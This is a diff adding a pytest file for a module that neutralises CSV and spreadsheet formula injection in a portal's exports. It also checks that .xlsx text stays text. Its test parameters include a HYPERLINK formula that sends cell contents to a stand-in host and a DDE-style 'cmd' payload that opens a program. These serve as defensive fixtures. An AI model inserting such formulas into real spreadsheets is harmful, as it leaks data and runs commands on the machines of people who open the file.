@@ -1,0 +1,89 @@
+"""The one rule for text written into spreadsheets (plans/spreadsheet_cells.py), without a
+database: CSV cells are neutralised and read back exactly, .xlsx text is never a formula."""
+
+import csv
+import io
+import re
+
+import pytest
+import tablib
+from hypothesis import given
+from hypothesis import strategies as st
+from openpyxl import load_workbook
+from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
+
+from plans.spreadsheet_cells import CsvWriter, csv_cell, csv_text, dataset_xlsx
+
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+PLAIN_NUMBER = re.compile(r"[+-]?[\d,]+(\.\d+)?")
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        ("=前年度比で増加", "'=前年度比で増加"),
+        ('=HYPERLINK("http://x.example/?"&A1,"x")', '\'=HYPERLINK("http://x.example/?"&A1,"x")'),
+        ("+1件増", "'+1件増"),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+        ("@SUM(1+1)", "'@SUM(1+1)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("'=already quoted", "''=already quoted"),  # one more, so that reading gives it back
+        ("-5", "-5"),  # a plain number stays a number
+        ("+1.5", "+1.5"),
+        ("-1,200", "-1,200"),
+        ("-1,2", "'-1,2"),  # not a number Excel would read: neutralised like any text
+        ("- 5", "'- 5"),
+        ("区づくり推進事業", "区づくり推進事業"),
+        ("'quoted text", "'quoted text"),
+        ("", ""),
+        (5, 5),
+        (None, None),
+    ],
+)
+def test_csv_cells_are_neutralised_and_read_back(value, written):
+    assert csv_cell(value) == written
+    if isinstance(value, str):
+        assert csv_text(written) == value
+
+
+@given(st.text())
+def test_any_text_survives_csv_cell_then_csv_text(text):
+    written = csv_cell(text)
+    assert csv_text(written) == text
+    assert (
+        not written.startswith(FORMULA_START)
+        or written.lstrip("+-").replace(",", "").replace(".", "").isdigit()
+    )
+
+
+def test_csv_writer_writes_every_row_through_the_rule():
+    buffer = io.StringIO()
+    CsvWriter(buffer, lineterminator="\r\n").writerow([1, "=1+1", "-5", None])
+    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [["1", "'=1+1", "-5", ""]]
+
+
+# XML keeps neither the control characters openpyxl refuses nor a carriage return (a line
+# end is read back as "\n"): text typed into the portal never holds them.
+XLSX_TEXT = st.text().map(lambda text: ILLEGAL_CHARACTERS_RE.sub("", text).replace("\r", ""))
+
+
+@given(st.lists(XLSX_TEXT, min_size=1, max_size=5))
+def test_any_text_is_a_text_cell_in_xlsx(texts):
+    dataset = tablib.Dataset(headers=[f"列{n}" for n in range(len(texts))])
+    dataset.append(texts)
+    sheet = load_workbook(io.BytesIO(dataset_xlsx(dataset))).active
+    for cell, text in zip(sheet[2], texts, strict=False):
+        if text:
+            assert (cell.data_type, cell.value) == ("s", text)
+    assert [cell.value for cell in sheet[1]] == dataset.headers
+
+
+def test_text_that_starts_like_a_formula_keeps_excel_s_quote_prefix():
+    dataset = tablib.Dataset(["=1+1", "普通の文字", 5], headers=["a", "b", "c"])
+    sheet = load_workbook(io.BytesIO(dataset_xlsx(dataset))).active
+    a2, b2, c2 = sheet[2]
+    assert (a2.value, a2.data_type, a2.quotePrefix) == ("=1+1", "s", True)
+    assert (b2.data_type, b2.quotePrefix) == ("s", False)
+    assert (c2.value, c2.data_type) == (5, "n")
+    assert sheet.freeze_panes == "A2" and sheet["A1"].font.bold
